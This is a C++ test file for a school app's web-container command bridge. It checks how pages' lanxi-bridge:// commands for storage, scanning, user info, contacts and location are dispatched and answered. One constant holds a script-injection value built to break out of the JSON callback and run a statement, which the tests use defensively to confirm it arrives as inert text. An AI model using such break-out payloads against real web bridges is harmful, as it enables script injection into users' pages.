// The web container's command bridge, through the page engine: pages of the fake services
// navigate to command addresses (links, scripts, the demo page's buttons) and read what their
// `callback` received.

#include <gtest/gtest.h>

#include <cctype>
#include <chrono>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

#include "SocialSDK/service/SHSProtocol.h"
#include "SocialSDK/service/SHSocialData.h"
#include "SocialSDK/service/SHSocialExtConfig.h"
#include "SocialSDK/service/SHSocialHttpClient.h"
#include "client/ServiceConfig.h"
#include "client/SignInState.h"
#include "components/photopicker/PhotoPickerViewController.h"
#include "fakes/FakeSchoolServices.h"
#include "platform/devices/AddressBook.h"
#include "platform/devices/ContactStore.h"
#include "platform/devices/Devices.h"
#include "platform/devices/ImagePickerController.h"
#include "platform/devices/LocationDevice.h"
#include "platform/devices/MessageComposeViewController.h"
#include "platform/devices/PhotoLibrary.h"
#include "platform/foundation/Bundle.h"
#include "platform/foundation/Dispatch.h"
#include "platform/foundation/Json.h"
#include "platform/foundation/Log.h"
#include "platform/foundation/NotificationCenter.h"
#include "platform/foundation/PropertyList.h"
#include "platform/foundation/RunLoop.h"
#include "platform/foundation/UserDefaults.h"
#include "platform/graphics/Image.h"
#include "platform/net/HttpClient.h"
#include "platform/net/Reachability.h"
#include "platform/testing/UIDriver.h"
#include "platform/testing/UiTestScope.h"
#include "platform/ui/Application.h"
#include "platform/ui/NavigationController.h"
#include "platform/ui/ScrollView.h"
#include "platform/ui/WebView.h"
#include "platform/ui/Window.h"
#include "platform/web/URLRequest.h"
#include "signin/LoginViewController.h"
#include "tests/support/TempHome.h"
#include "tests/webcontainer/PageSettle.h"
#include "webcontainer/ItemScanViewController.h"
#include "webcontainer/WebDetailViewController.h"
#include "webcontainer/mapViewController.h"

using platform::Json;

namespace {

constexpr const char* kDemoPath = "/bridge-demo.html";
// The value an attacker would store: it tries to close the reply's string and object, run a
// statement of its own and reopen them.
constexpr const char* kBreakOut = R"("}); document.title="x"; ({"a":")";

// A page of a host that is not the school's. Its callback shows what it hears in #reply, as
// the demo page's does; `then` is a script it runs once it has loaded.
std::string foreignPage(const std::string& then = "") {
    return "<html><head><title>外站</title></head><body><pre id=\"reply\">none</pre><script>"
           "function callback(r) { document.getElementById('reply').innerText = "
           "JSON.stringify(r); }" +
           then + "</script></body></html>";
}

// The text escaped as a page's encodeURIComponent does.
std::string escapedAsAPageDoes(const std::string& text) {
    static constexpr char kHex[] = "0123456789ABCDEF";
    std::string escaped;
    for (unsigned char c : text) {
        if (std::isalnum(c) ||
            std::string_view("-_.!~*'()").find(char(c)) != std::string_view::npos)
            escaped += char(c);
        else
            escaped += {'%', kHex[c >> 4], kHex[c & 15]};
    }
    return escaped;
}

// A command address with its argument, as a page builds it: escaped once, for an argument
// left as it is (its ":" read as a port, its "[" as an address) is no address to a browser,
// and the page's navigation to it would never be asked.
std::string command(const std::string& word, const std::string& argument,
                    const std::string& scheme = "lanxi-bridge://") {
    return scheme + word + "=" + escapedAsAPageDoes(argument);
}

fakes::Reply htmlReply(std::string body) {
    fakes::Reply reply;
    reply.contentType = "text/html; charset=utf-8";
    reply.body = std::move(body);
    return reply;
}

fakes::Reply redirectTo(std::string location) {
    fakes::Reply reply;
    reply.status = 302;
    reply.contentType = "text/html";
    reply.location = std::move(location);
    return reply;
}

class OpenerScreen : public platform::ViewController {};

class BridgeTest : public ::testing::Test {
protected:
    BridgeTest() {
        server.start();
        // Another host as far as the client can tell: same address, another port.
        foreign.start();
        ServiceConfig::shared().pointAllAt(server.baseUrl());
        platform::UserDefaults::resetStandard();
        platform::resetDevices();
        navigation = std::make_shared<platform::NavigationController>(opener);
        window->setRootViewController(navigation);
        window->makeKeyAndVisible();
        platform::setLogSink([this](const std::string& line) {
            std::lock_guard lock(logMutex);
            logged.push_back(line);
        });
        // The share SDK talks to the fake share service, never to its built-in address.
        const auto overlay = home.path() / "bundle-overlay";
        platform::writePropertyList(overlay / "SocialSDK-config.plist",
                                    Json{{"baseURL", server.shareServiceBase()}});
        platform::Bundle::main().setOverlayDirectory(overlay);
        SHSProtocol::resetSharedInstance();
        SHSocialHttpClient::resetSharedInstance();
    }
    ~BridgeTest() override {
        platform::setLogSink(nullptr);
        driver.runUntil([] { return platform::HttpClient::shared().inFlight() == 0; }, 10);
        server.stop();
        foreign.stop();
        platform::Bundle::main().setOverlayDirectory({});
        SHSProtocol::resetSharedInstance();
        SHSocialHttpClient::resetSharedInstance();
        using Kind = platform::Reachability::Kind;
        for (auto kind : {Kind::Host, Kind::Internet, Kind::LocalWiFi})
            platform::Reachability::setOverride(kind, std::nullopt);
        platform::resetDevices();
        ServiceConfig::shared().reload();
        platform::UserDefaults::resetStandard();
    }

    std::shared_ptr<WebDetailViewController> open(const std::string& path = kDemoPath) {
        return openAddress(server.baseUrl() + path);
    }
    std::shared_ptr<WebDetailViewController> openAddress(const std::string& address) {
        auto page = std::make_shared<WebDetailViewController>();
        page->setTitleStr("移动考勤");
        page->setUrlStr(address);
        navigation->pushViewController(page, false);
        EXPECT_TRUE(driver.runUntil(
            [&] {
                return page->webView() && !page->webView()->isBusy() &&
                       platform::HttpClient::shared().inFlight() == 0;
            },
            pagesettle::kBound.count()));
        settle();
        if (page->webView())
            tap = pagesettle::NavigationTap::install(*page->webView());
        return page;
    }
    // Lets what the pages and the client have under way come to pass, then moves the clock on
    // by the seconds, and lets what that set off come to pass too.
    void settle(double seconds = 1) {
        EXPECT_TRUE(pagesettle::settleWeb());
        scope.advance(seconds);
        EXPECT_TRUE(pagesettle::settleWeb());
    }

    // The page navigates to the address, as its script would; true when the delegate let the
    // load go ahead. The delegate is asked on a later turn: this waits for its answer, and for
    // what the answer set off in the page.
    bool navigate(const std::string& url) {
        auto ask = pagesettle::navigateAndHearTheAnswer(*page->webView(), *tap, url);
        EXPECT_TRUE(ask) << "the page did not ask to go to " << url;
        EXPECT_TRUE(pagesettle::settleWeb());
        return ask && ask->allowed;
    }
    // Back, forward or a reload: each shows the page anew, on a later turn.
    void goBack() {
        showAnew([](platform::WebView& web) { web.goBack(); });
    }
    void goForward() {
        showAnew([](platform::WebView& web) { web.goForward(); });
    }
    void reload() {
        showAnew([](platform::WebView& web) { web.reload(); });
    }
    void showAnew(const std::function<void(platform::WebView&)>& move) {
        const auto before = page->webView()->pageIdentity();
        move(*page->webView());
        EXPECT_TRUE(driver.runUntil(
            [&] { return page->webView()->pageIdentity() != before && !page->webView()->isBusy(); },
            pagesettle::kBound.count()));
        settle();
    }
    // The page follows a link to the address and the load ends, wherever it leads.
    void follow(const std::string& url) {
        EXPECT_TRUE(navigate(url)) << url;
        EXPECT_TRUE(driver.runUntil(
            [&] {
                return !page->webView()->isBusy() && platform::HttpClient::shared().inFlight() == 0;
            },
            pagesettle::kBound.count()));
        settle();
    }
    std::vector<std::string> replies() const { return page->webView()->evaluatedScripts(); }
    // What the page shows in the element with the id, as a user sees it.
    std::string shown(const std::string& id) const {
        EXPECT_TRUE(pagesettle::settleWeb());
        page->webView()->layoutIfNeeded();
        for (const auto& item : page->webView()->pageItems()) {
            if (item.id == id)
                return item.text;
        }
        return "(no element " + id + ")";
    }
    // Chooses the album's first photo through the demo page, up to its upload held by the
    // server.
    bool choosePhotoUntilItsUploadIsHeld(const std::string& uploadPath) {
        tapDemo("选择照片");
        if (!driver.pressAlertButton("从照片中提取").ok)
            return false;
        settle();
        auto picker = std::dynamic_pointer_cast<platform::components::PhotoPickerViewController>(
            page->presentedViewController());
        if (!picker)
            return false;
        picker->toggleAsset(0);
        return driver.tap("完成").ok &&
               driver.runUntil([&] { return !server.heldRequests(uploadPath).empty(); });
    }
    // Taps a command of the demo page and lets the reply arrive.
    std::string tapDemo(const std::string& label) {
        EXPECT_TRUE(tapOnPage(label)) << label << "\n" << driver.outline();
        settle();
        return shown("reply");
    }
    // Scrolls the page from its top down, as a user looks for a command, and taps it.
    bool tapOnPage(const std::string& label) {
        page->webView()->scrollView()->setContentOffset({0, 0});
        settle(0.1);
        for (int screens = 0; screens < 8; ++screens) {
            if (driver.tap(label)) {
                // The page asks for the command on a later turn.
                EXPECT_TRUE(pagesettle::settleWeb());
                return true;
            }
            driver.dragFinger({187, 560}, {187, 160});
            settle();
        }
        return false;
    }
    // The page's own script sends the command with the argument, as the demo page does.
    void sendFromPage(const std::string& word, const std::string& argumentScript) {
        page->webView()->stringByEvaluatingJavaScriptFromString("send('" + word + "', " +
                                                                argumentScript + ")");
        settle();
    }
    bool loggedLine(const std::string& text) {
        std::lock_guard lock(logMutex);
        for (const auto& line : logged) {
            if (line.find(text) != std::string::npos)
                return true;
        }
        return false;
    }
    void clearLog() {
        std::lock_guard lock(logMutex);
        logged.clear();
    }
    std::shared_ptr<LoginViewController> signInPage() const {
        return std::dynamic_pointer_cast<LoginViewController>(
            navigation->presentedViewController());
    }
    // Signs the teacher in on the sign-in page shown.
    bool signInOnThePage() {
        return driver.type("account", "20050031") && driver.type("password", "teacher123") &&
               driver.pressReturn() && driver.tap("login");
    }
    static void signIn(const Json& document) {
        auto& defaults = platform::UserDefaults::standard();
        defaults.setBool(true, SignInKey::isLogin);
        defaults.setObject(document, SignInKey::WebViewUserInfo);
    }
    static void addContact(const std::string& lastName, const std::string& firstName,
                           std::vector<std::string> numbers) {
        platform::Contact person;
        person.lastName = lastName;
        person.firstName = firstName;
        for (auto& number : numbers)
            person.phones.push_back({platform::kContactLabelMobile, std::move(number)});
        ASSERT_TRUE(platform::ContactStore().add(person));
    }
    static platform::Location fix(double latitude, double longitude) {
        platform::Location location;
        location.coordinate = {latitude, longitude};
        location.horizontalAccuracy = 5;
        return location;
    }

    testsupport::TempHome home;
    fakes::FakeSchoolServices server;
    fakes::FakeSchoolServices foreign;
    platform::testing::UiTestScope scope;
    platform::testing::UIDriver driver;
    std::shared_ptr<platform::Window> window = platform::View::make<platform::Window>();
    std::shared_ptr<OpenerScreen> opener = std::make_shared<OpenerScreen>();
    std::shared_ptr<platform::NavigationController> navigation;
    std::shared_ptr<WebDetailViewController> page;
    // Notes the container's answers to the page's navigations.
    std::shared_ptr<pagesettle::NavigationTap> tap;
    std::mutex logMutex;
    std::vector<std::string> logged;
};

// --- The dispatcher ---------------------------------------------------------------------

TEST_F(BridgeTest, TheFirstWordOfTheTableDecidesWhereverItStands) {
    page = open();
    // "getStorage" stands earlier in the table than "getDeviceId", though later in the address.
    EXPECT_FALSE(navigate("lanxi-bridge://getDeviceId?then=getStorage"));
    EXPECT_EQ(replies(), std::vector<std::string>{R"(callback( {"message":""} ))"});

    // "openLocation" holds "Location" with a capital: it opens the map, it does not locate.
    platform::LocationDevice::shared().setAuthorizationStatus(
        platform::LocationAuthorizationStatus::AuthorizedWhenInUse);
    EXPECT_FALSE(navigate("lanxi-bridge://openLocation"));
    settle();
    EXPECT_TRUE(std::dynamic_pointer_cast<mapViewController>(navigation->topViewController()));
    platform::LocationDevice::shared().injectLocation(fix(30.3, 120.08));
    settle();
    EXPECT_EQ(replies().size(), 1u);

    // "scanQRCode1" and "scanQRCodeBatch" both contain "scanQRCode" and come before it.
    auto scanner = [&] {
        settle();
        return std::dynamic_pointer_cast<ItemScanViewController>(navigation->topViewController());
    };
    navigation->popToViewController(page, false);
    EXPECT_FALSE(navigate("lanxi-bridge://scanQRCodeBatch"));
    ASSERT_TRUE(scanner());
    EXPECT_TRUE(scanner()->Add());
    navigation->popToViewController(page, false);
    EXPECT_FALSE(navigate("lanxi-bridge://scanQRCode1"));
    ASSERT_TRUE(scanner());
    EXPECT_FALSE(scanner()->Add());
}

TEST_F(BridgeTest, AnOrdinaryLinkThatHoldsACommandWordIsInterceptedAndNeverLoaded) {
    page = open();
    server.clearRequests();
    EXPECT_FALSE(navigate(server.baseUrl() + "/news/list.html?sort=location"));
    settle();
    EXPECT_TRUE(server.requestsTo("/news/list.html").empty());
    EXPECT_EQ(page->webView()->pageTitle(), "网页接口演示");

    // A link built from an undefined script variable closes the page.
    EXPECT_FALSE(navigate(server.baseUrl() + "/pages/undefined"));
    settle();
    EXPECT_EQ(navigation->topViewController(), opener);

    // An address with no command word loads.
    page = open();
    EXPECT_TRUE(navigate(server.baseUrl() + "/news/list.html"));
}

TEST_F(BridgeTest, AMalformedArgumentCountsAsAbsent) {
    page = open();
    EXPECT_EQ(WebDetailViewController::DictFromStrCut("x://setStorage={\"a\":1}", "setStorage"),
              Json({{"a", 1}}));
    // Escaped a second time: decoded once by the dispatcher, once here.
    EXPECT_EQ(WebDetailViewController::DictFromStrCut("x://getStorage=%7B%22key%22%3A%22a%22%7D",
                                                      "getStorage"),
              Json({{"key", "a"}}));
    EXPECT_FALSE(WebDetailViewController::DictFromStrCut("x://getStorage", "getStorage"));
    EXPECT_FALSE(WebDetailViewController::DictFromStrCut("x://getStorage={key:1}", "getStorage"));
    EXPECT_FALSE(
        WebDetailViewController::DictFromStrCut("x://getStorage={\"key\":\"%ZZ\"}", "getStorage"));
    EXPECT_FALSE(
        WebDetailViewController::DictFromStrCut("x://getStorage={\"key\":\"%E9\"}", "getStorage"));

    // Through the page: after the dispatcher's decoding, a bad escape or bad JSON is left.
    EXPECT_FALSE(navigate("lanxi-bridge://setStorage=%7B%22a%22%3A%22%25ZZ%22%7D"));
    EXPECT_FALSE(navigate(command("setStorage", "{a:1}")));
    EXPECT_FALSE(navigate(command("setStorage", "[1,2]")));
    EXPECT_EQ(page->pageStore(), Json::object());
    EXPECT_FALSE(navigate(command("getStorage", "{key:'a'}")));
    // A share without its argument still shows the sheet, with empty texts.
    EXPECT_FALSE(navigate("lanxi-bridge://onMenuShare=%25"));
    EXPECT_TRUE(loggedLine("dictdictdictdictdictnull"));
    EXPECT_EQ(replies(), std::vector<std::string>{R"(callback( {"message":""} ))"});
}

// --- Page store -------------------------------------------------------------------------

TEST_F(BridgeTest, ThePageStoreKeepsWhatThePagePutForThePagesLife) {
    page = open();
    EXPECT_FALSE(navigate(command("setStorage", R"({"a":null,"n":12,"s":"一"})")));
    EXPECT_FALSE(navigate(command("setStorage", R"({"s":"二"})")));
    EXPECT_EQ(page->pageStore(), Json({{"a", " "}, {"n", 12}, {"s", "二"}}));
    for (const char* key : {"a", "n", "s", "missing"})
        navigate(command("getStorage", std::string(R"({"key":")") + key + "\"}"));
    navigate(command("getStorage", "{}"));
    EXPECT_EQ(replies(), (std::vector<std::string>{
                             R"(callback( {"message":" "} ))",
                             R"(callback( {"message":"12"} ))",
                             R"(callback( {"message":"二"} ))",
                             R"(callback( {"message":""} ))",
                             R"(callback( {"message":""} ))",
                         }));

    // Through the demo page's own buttons, as the page's callback receives them.
    tapDemo("存入 name 与 empty");
    EXPECT_EQ(shown("count"), "5");
    EXPECT_EQ(tapDemo("读取 name"), R"({"message":"岚溪学院"})");
    EXPECT_EQ(tapDemo("读取 empty"), R"({"message":" "})");
    EXPECT_EQ(tapDemo("读取未存的键"), R"({"message":""})");
}

TEST_F(BridgeTest, AStoredValueThatTriesToBreakOutReachesTheCallbackAsItsExactText) {
    page = open();
    sendFromPage("setStorage", std::string("{v: ") + Json(kBreakOut).dump() + "}");
    EXPECT_EQ(page->pageStore().value("v", ""), kBreakOut);
    sendFromPage("getStorage", "{key: 'v'}");

    ASSERT_EQ(replies().size(), 3u);  // the two sends, then the reply
    EXPECT_EQ(replies().back(), "callback( {\"message\":" + Json(kBreakOut).dump() + "} )");
    // The page's callback got exactly the value, once, and nothing else ran.
    EXPECT_EQ(Json::parse(shown("reply")), Json({{"message", kBreakOut}}));
    EXPECT_EQ(shown("count"), "1");
    EXPECT_EQ(page->webView()->pageTitle(), "网页接口演示");

    // The same value as a scanned code and in a batch, from the scanner the page opened.
    EXPECT_FALSE(navigate("lanxi-bridge://scanQRCode1"));
    page->ItemScanArry({kBreakOut, "2"});
    EXPECT_EQ(Json::parse(shown("reply")), Json({{"message", std::string(kBreakOut) + ",2"}}));
    page->ItemScanStr(kBreakOut);
    EXPECT_EQ(Json::parse(shown("reply")), Json({{"message", R"(}); document.title=x; ({a:)"}}));
    EXPECT_EQ(shown("count"), "3");
    EXPECT_EQ(page->webView()->pageTitle(), "网页接口演示");
}

TEST_F(BridgeTest, ScannedCodesGoOnlyToThePageThatOpenedTheScanner) {
    page = open();
    // Nobody asked: nothing runs.
    page->ItemScanStr("A1");
    EXPECT_TRUE(replies().empty());
    EXPECT_EQ(shown("reply"), "（尚无回复）");

    // The page asks, then reloads before the code comes: the page shown did not ask.
    EXPECT_FALSE(navigate("lanxi-bridge://scanQRCodeBatch"));
    reload();
    clearLog();
    page->ItemScanArry({"B2"});
    EXPECT_TRUE(replies().empty());
    EXPECT_EQ(shown("reply"), "（尚无回复）");
    EXPECT_TRUE(loggedLine("bridge: reply withheld: " + server.baseUrl() + kDemoPath +
                           " is not the page that asked"));

    // The page shown asks, and hears.
    EXPECT_FALSE(navigate("lanxi-bridge://scanQRCode"));
    page->ItemScanStr("C3");
    EXPECT_EQ(shown("reply"), R"({"message":"C3"})");
}

// --- Replies of the simple commands -----------------------------------------------------

TEST_F(BridgeTest, ScanRepliesCarryTheCodesAndAnEmptyBatchIsAnEmptyMessage) {
    page = open();
    EXPECT_FALSE(navigate("lanxi-bridge://scanQRCode1"));
    page->ItemScanStr("A\"1\"");
    page->ItemScanStr("");
    page->ItemScanArry({"a\"b", "c"});
    page->ItemScanArry({});
    EXPECT_EQ(replies(), (std::vector<std::string>{
                             R"(callback( {"message":"A1"} ))",
                             R"(callback( {"message":""} ))",
                             R"(callback( {"message":"a\"b,c"} ))",
                             R"(callback( {"message":""} ))",
                         }));
    EXPECT_EQ(shown("reply"), R"({"message":""})");
    EXPECT_EQ(shown("count"), "4");
}

TEST_F(BridgeTest, NetworkTypeAnswersWiFiThenAnyRouteThenNothing) {
    using platform::NetworkStatus;
    using Kind = platform::Reachability::Kind;
    page = open();
    platform::Reachability::setOverride(Kind::LocalWiFi, NetworkStatus::ReachableViaWiFi);
    EXPECT_EQ(tapDemo("网络类型"), R"({"NetworkType":"目前网络状态为：WiFi"})");
    platform::Reachability::setOverride(Kind::LocalWiFi, NetworkStatus::NotReachable);
    platform::Reachability::setOverride(Kind::Internet, NetworkStatus::ReachableViaWWAN);
    EXPECT_EQ(tapDemo("网络类型"), R"({"NetworkType":"目前网络状态为：3G"})");
    platform::Reachability::setOverride(Kind::Internet, NetworkStatus::NotReachable);
    tapDemo("网络类型");
    EXPECT_EQ(replies(), (std::vector<std::string>{
                             R"(callback({"NetworkType":"目前网络状态为：WiFi"}))",
                             R"(callback({"NetworkType":"目前网络状态为：3G"}))",
                         }));
    EXPECT_TRUE(loggedLine(R"(回调:callback({"NetworkType":"目前网络状态为：3G"}))"));
}

TEST_F(BridgeTest, TheDeviceIdentifierStaysTheSame) {
    page = open();
    const std::string first = tapDemo("设备标识");
    const Json reply = Json::parse(first);
    const std::string identifier = reply.value("deviceId", "");
    EXPECT_EQ(identifier.size(), 32u) << first;
    EXPECT_EQ(identifier.find('-'), std::string::npos);
    EXPECT_EQ(replies().back(), "callback({\"deviceId\":\"" + identifier + "\"})");
    EXPECT_EQ(tapDemo("设备标识"), first);
}

TEST_F(BridgeTest, BarAndKeyboardCommandsActWithoutAReply) {
    page = open();
    ASSERT_TRUE(tapOnPage("状态栏浅色文字"));
    EXPECT_EQ(platform::Application::shared().statusBarStyle(),
              platform::StatusBarStyle::LightContent);
    ASSERT_TRUE(tapOnPage("状态栏深色文字"));
    EXPECT_EQ(platform::Application::shared().statusBarStyle(), platform::StatusBarStyle::Default);
    ASSERT_TRUE(tapOnPage("隐藏导航栏"));
    EXPECT_TRUE(navigation->isNavigationBarHidden());
    EXPECT_FALSE(navigate("lanxi-bridge://navigationBarShow"));
    EXPECT_FALSE(navigation->isNavigationBarHidden());
    EXPECT_FALSE(navigate("lanxi-bridge://endEditing"));
    EXPECT_TRUE(replies().empty());
    ASSERT_TRUE(tapOnPage("关闭页面"));
    settle();
    EXPECT_EQ(navigation->topViewController(), opener);
}

TEST_F(BridgeTest, TheMediaCommandsReachTheirDevicesWithoutAReplyOfTheirOwn) {
    page = open();
    // Nothing recorded yet: the voice commands have nothing to play or upload.
    for (const char* label : {"播放录音", "暂停播放", "停止播放", "上传录音"})
        EXPECT_EQ(tapDemo(label), "（尚无回复）") << label;
    EXPECT_TRUE(replies().empty());
    EXPECT_EQ(navigation->topViewController(), page);
}

// The road of a share: the page's command shows the share SDK's sheet, which sets the
// application key and asks the share service for the platforms' keys; the page's address and
// title wait on each platform's share data.
TEST_F(BridgeTest, ShareHandsThePageToTheShareSdkWhichAsksItsServiceForThePlatformKeys) {
    const auto overlay = home.path() / "bundle-overlay";
    ASSERT_TRUE(platform::writePropertyList(overlay / "SocialSDK-config.plist",
                                            Json{{"baseURL", server.shareServiceBase()}}));
    platform::Bundle::main().setOverlayDirectory(overlay);
    SHSProtocol::resetSharedInstance();
    SHSocialHttpClient::resetSharedInstance();

    page = open();
    EXPECT_FALSE(tapDemo("分享").empty());
    auto askedForKeys = [&] {
        for (const auto& request : server.shareRequests())
            if (request.action == 16)
                return true;
        return false;
    };
    EXPECT_TRUE(platform::RunLoop::main().runUntil(askedForKeys));
    const auto config = SHSocialData::defaultData()->extConfig();
    EXPECT_EQ(config->qzoneData->url.value_or(""), server.baseUrl() + "/news/share.html");
    EXPECT_EQ(config->qzoneData->title.value_or(""), "岚溪学院");
    EXPECT_TRUE(replies().empty());

    platform::RunLoop::main().runUntil(
        [] { return platform::HttpClient::shared().inFlight() == 0; });
    platform::Bundle::main().setOverlayDirectory({});
    SHSProtocol::resetSharedInstance();
    SHSocialHttpClient::resetSharedInstance();
}

// --- User information -------------------------------------------------------------------

TEST_F(BridgeTest, SignedInTheUserInformationIsAnsweredAtOnce) {
    const Json document = {{"userId", "20050031"}, {"userName", kBreakOut}};
    signIn(document);
    page = open();
    EXPECT_FALSE(navigate("lanxi-bridge://getUserInfo"));
    EXPECT_EQ(replies(), std::vector<std::string>{"callback(" + document.dump() + ")"});
    EXPECT_FALSE(page->isUserInfoRequestPending());
    EXPECT_EQ(tapDemo("组织信息"), document.dump());
    EXPECT_EQ(tapDemo("用户信息（未登录时不登录）"), document.dump());
    EXPECT_EQ(shown("count"), "3");
    EXPECT_EQ(page->webView()->pageTitle(), "网页接口演示");
    EXPECT_FALSE(signInPage());
}

TEST_F(BridgeTest, SignedOutThePageWaitsForTheSignInAndHearsOnce) {
    page = open();
    tapDemo("用户信息");
    auto login = signInPage();
    ASSERT_TRUE(login) << driver.outline();
    EXPECT_TRUE(login->isWebLogin());
    EXPECT_TRUE(page->isUserInfoRequestPending());
    EXPECT_TRUE(replies().empty());

    ASSERT_TRUE(signInOnThePage());
    ASSERT_TRUE(driver.runUntil([&] { return !page->isUserInfoRequestPending(); }));
    settle();
    ASSERT_EQ(replies().size(), 1u);
    const Json answer = Json::parse(shown("reply"));
    EXPECT_EQ(answer.value("userId", "?"), "20050031");
    EXPECT_EQ(answer.value("userName", "?"), "王建国");

    // A later sign-in finds nothing waiting.
    platform::NotificationCenter::defaultCenter().post(SignInNotification::LoginSuccess);
    EXPECT_EQ(replies().size(), 1u);
    EXPECT_EQ(shown("count"), "1");
}

TEST_F(BridgeTest, APageThatMovesWithinItselfWhileItWaitsIsStillTheOneAnswered) {
    page = open();
    const auto web = page->webView();
    const std::string address = web->pageURL();
    tapDemo("用户信息");
    ASSERT_TRUE(signInPage()) << driver.outline();
    // The page moves to a place within itself by a link: asked of the container as any link
    // is, let through, and still the same page from the same school.
    EXPECT_TRUE(navigate(address + "#waiting"));
    settle();
    EXPECT_EQ(web->pageURL(), address + "#waiting");
    EXPECT_EQ(web->pageSourceChain(), std::vector<std::string>{});
    EXPECT_TRUE(page->isUserInfoRequestPending());

    ASSERT_TRUE(signInOnThePage());
    ASSERT_TRUE(driver.runUntil([&] { return !page->isUserInfoRequestPending(); }));
    settle();
    ASSERT_EQ(replies().size(), 1u);
    EXPECT_EQ(Json::parse(shown("reply")).value("userId", "?"), "20050031");
}

TEST_F(BridgeTest, SignedOutBackingOutOfTheSignInClosesThePage) {
    page = open();
    tapDemo("组织信息");
    ASSERT_TRUE(signInPage());
    ASSERT_TRUE(driver.tap("close")) << driver.outline();
    settle();
    EXPECT_FALSE(signInPage());
    EXPECT_EQ(navigation->topViewController(), opener);
    EXPECT_TRUE(replies().empty());
}

TEST_F(BridgeTest, SignedOutThePageThatDeclinesTheSignInHearsNullAtOnce) {
    page = open();
    EXPECT_EQ(tapDemo("用户信息（未登录时不登录）"), "null");
    EXPECT_EQ(replies(), std::vector<std::string>{"callback(null)"});
    EXPECT_FALSE(signInPage());
    EXPECT_FALSE(page->isUserInfoRequestPending());
    // Nothing is left waiting for a later sign-in.
    signIn({{"userId", "20050031"}});
    platform::NotificationCenter::defaultCenter().post(SignInNotification::LoginSuccess);
    EXPECT_EQ(replies().size(), 1u);
}

// --- Contacts ---------------------------------------------------------------------------

TEST_F(BridgeTest, ContactsListTheFirstLegalMobileOfEachPersonWithoutSeparators) {
    addContact("林", "晓岚", {"139-0000-4567", "139 1234 5678"});
    addContact("门卫", "", {"0571-8888 0000", "110"});
    addContact("周", "宁", {"12345678901", "159*1234*5678"});
    platform::AddressBook::setAuthorizationStatus(platform::ContactsAuthorization::Authorized);
    page = open();
    const Json list = Json::array({{{"userName", "林晓岚"}, {"mobileNo", "13900004567"}},
                                   {{"userName", "周宁"}, {"mobileNo", "15912345678"}}});
    EXPECT_EQ(Json::parse(tapDemo("读取通讯录")), Json({{"list", list}}));
    EXPECT_EQ(replies(), std::vector<std::string>{"callback({\"list\":" + list.dump(4) + "})"});
}

TEST_F(BridgeTest, ContactsRefusedGiveAnEmptyListAndAddNobody) {
    addContact("林", "晓岚", {"13900004567"});
    platform::AddressBook::setAuthorizationStatus(platform::ContactsAuthorization::Denied);
    page = open();
    EXPECT_EQ(tapDemo("读取通讯录"), R"({"list":[]})");
    EXPECT_EQ(replies(), std::vector<std::string>{R"(callback({"list":[]}))"});

    tapDemo("新增联系人");
    EXPECT_NE(driver.outline().find("添加失败"), std::string::npos) << driver.outline();
    EXPECT_EQ(platform::ContactStore().loadAll().size(), 1u);
}

TEST_F(BridgeTest, AddContactSavesThePersonAndSaysSo) {
    platform::AddressBook::setAuthorizationStatus(platform::ContactsAuthorization::NotDetermined);
    platform::AddressBook::setAccessRequestAnswer(true);
    page = open();
    tapDemo("新增联系人");
    EXPECT_NE(driver.outline().find("添加成功"), std::string::npos) << driver.outline();
    ASSERT_TRUE(driver.pressAlertButton("确定"));
    auto saved = platform::ContactStore().loadAll();
    ASSERT_EQ(saved.size(), 1u);
    EXPECT_EQ(saved[0].lastName, "林晓岚");
    EXPECT_EQ(saved[0].firstName, "");
    EXPECT_EQ(saved[0].phones, (std::vector<platform::LabeledValue>{{"手机", "13912345678"}}));
    EXPECT_TRUE(replies().empty());

    // Without a number the person is added without one.
    EXPECT_FALSE(navigate(command("addContact", R"({"userName":"无号码"})")));
    settle();
    saved = platform::ContactStore().loadAll();
    ASSERT_EQ(saved.size(), 2u);
    EXPECT_TRUE(saved[1].phones.empty());
}

// --- Location ---------------------------------------------------------------------------

TEST_F(BridgeTest, LocationAnswersOnceWithThePlaceOfTheFirstFix) {
    auto& device = platform::LocationDevice::shared();
    device.setAuthorizationStatus(platform::LocationAuthorizationStatus::AuthorizedWhenInUse);
    page = open();
    ASSERT_TRUE(tapOnPage("当前位置"));
    device.injectLocation(fix(30.3001, 120.0801));
    device.injectLocation(fix(30.2500, 120.1700));
    device.injectLocation(fix(30.2600, 120.1300));
    settle();
    EXPECT_EQ(
        replies(),
        std::vector<std::string>{
            R"(callback({"latitude":"30.300100","longitude":"120.080100","address":"兰溪校区图书馆"}))"});
    EXPECT_EQ(Json::parse(shown("reply")), Json({{"latitude", "30.300100"},
                                                 {"longitude", "120.080100"},
                                                 {"address", "兰溪校区图书馆"}}));

    // Where the phone already is answers at once; far from any known place the address is
    // empty text.
    device.injectLocation(fix(10, 10));
    settle();
    ASSERT_TRUE(tapOnPage("当前位置"));
    settle();
    EXPECT_EQ(replies().back(),
              R"(callback({"latitude":"10.000000","longitude":"10.000000","address":""}))");
    EXPECT_EQ(shown("count"), "2");
}

TEST_F(BridgeTest, LocationFollowsTheAuthorisation) {
    using Status = platform::LocationAuthorizationStatus;
    auto& device = platform::LocationDevice::shared();
    page = open();

    // Not asked yet: the request asks the user and the page hears nothing; it asks again.
    device.setAuthorizationRequestAnswer(true);
    ASSERT_TRUE(tapOnPage("当前位置"));
    settle();
    device.injectLocation(fix(30.3, 120.08));
    settle();
    EXPECT_TRUE(replies().empty());
    EXPECT_EQ(device.authorizationStatus(), Status::AuthorizedWhenInUse);

    for (Status refused : {Status::Denied, Status::Restricted}) {
        device.setAuthorizationStatus(refused);
        ASSERT_TRUE(tapOnPage("当前位置"));
        device.injectLocation(fix(30.3, 120.08));
        settle();
        EXPECT_TRUE(replies().empty());
        EXPECT_EQ(shown("reply"), "（尚无回复）");
    }

    // Allowed always includes the use while the page is on screen.
    device.setAuthorizationStatus(Status::AuthorizedAlways);
    ASSERT_TRUE(tapOnPage("当前位置"));
    device.injectLocation(fix(30.3, 120.08));
    settle();
    EXPECT_EQ(replies().size(), 1u);
    EXPECT_EQ(Json::parse(shown("reply")).value("latitude", ""), "30.300000");
}

// --- Text messages ----------------------------------------------------------------------

TEST_F(BridgeTest, SendSMSPresentsTheComposerOnlyWhenTheDeviceCanSendTexts) {
    page = open();
    page->sendSMS("到了", {"13900004567"});
    settle();
    EXPECT_TRUE(platform::MessageComposeViewController::presentedMessages().empty());

    platform::MessageComposeViewController::setCanSendText(true);
    page->sendSMS("到了", {"13900004567"});
    settle();
